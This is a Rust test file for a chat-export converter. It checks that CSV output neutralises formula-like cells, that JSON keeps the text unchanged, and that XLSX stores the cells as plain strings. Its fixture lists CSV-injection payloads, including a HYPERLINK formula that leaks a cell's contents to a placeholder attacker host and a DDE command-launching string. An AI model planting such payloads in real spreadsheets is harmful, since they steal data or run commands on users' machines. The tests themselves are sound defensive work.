//! `convert`'s tables of an export whose messages look like spreadsheet formulas: CSV cells
//! are neutralised, JSON keeps the text, XLSX writes strings (never formulas).

use std::io::Read;

use adapter_keybase::{KeybaseExport, tabular};

/// Texts a spreadsheet would run as formulas if they began a cell.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
];

/// An export in which alice sends each of [`FORMULAS`], then a harmless text; the sender
/// `=bob` sends one more.
fn export(dir: &std::path::Path) -> KeybaseExport {
    let mut lines: Vec<String> = FORMULAS
        .iter()
        .chain(["plain text"].iter())
        .enumerate()
        .map(|(i, text)| {
            serde_json::json!({"text": text, "id": i + 1, "sent_at": 1_700_000_000 + i,
                "sender_username": "alice", "channel_name": "acme#general"})
            .to_string()
        })
        .collect();
    lines.push(
        serde_json::json!({"text": "hi", "id": 99, "sent_at": 1_700_000_099,
            "sender_username": "=bob", "channel_name": "acme#general"})
        .to_string(),
    );
    let path = dir.join("export.jsonl");
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    KeybaseExport::open(&path).unwrap()
}

#[test]
fn csv_cells_that_would_run_as_formulas_start_with_a_quote() {
    let dir = tempfile::tempdir().unwrap();
    let mut out = Vec::new();
    let rows = tabular::write_csv(&export(dir.path()), &mut out).unwrap();
    assert_eq!(rows, 8);
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let texts: Vec<&str> = records.iter().map(|r| &r[4]).collect();
    let expected: Vec<String> = FORMULAS.iter().map(|f| format!("'{f}")).collect();
    assert_eq!(texts[..6], expected[..]);
    assert_eq!(texts[6], "plain text");
    assert_eq!((&records[7][3], &records[7][4]), ("'=bob", "hi"));
}

#[test]
fn json_keeps_the_text_as_it_is() {
    let dir = tempfile::tempdir().unwrap();
    let mut out = Vec::new();
    tabular::write_json(&export(dir.path()), &mut out).unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out).unwrap();
    let texts: Vec<&str> = rows.iter().map(|r| r["text"].as_str().unwrap()).collect();
    assert_eq!(texts[..6], FORMULAS[..]);
    assert_eq!(rows[7]["sender"], "=bob");
}

#[test]
fn xlsx_writes_the_texts_as_strings_never_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("rows.xlsx");
    tabular::write_xlsx(&export(dir.path()), &path).unwrap();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    let mut part = |name: &str| {
        let mut xml = String::new();
        zip.by_name(name)
            .unwrap_or_else(|e| panic!("{name}: {e}"))
            .read_to_string(&mut xml)
            .unwrap();
        xml
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    let strings = part("xl/sharedStrings.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
    // Every text cell is a shared string (`t="s"`), and the texts are there unchanged.
    assert!(sheet.contains("t=\"s\""), "{sheet}");
    for text in ["=HYPERLINK(", "+1+cmd|", "-2+3", "@SUM(1+1)", "=bob"] {
        assert!(strings.contains(text), "{text} missing from {strings}");
    }
    assert!(!strings.contains("'="), "no quote added in XLSX: {strings}");
}
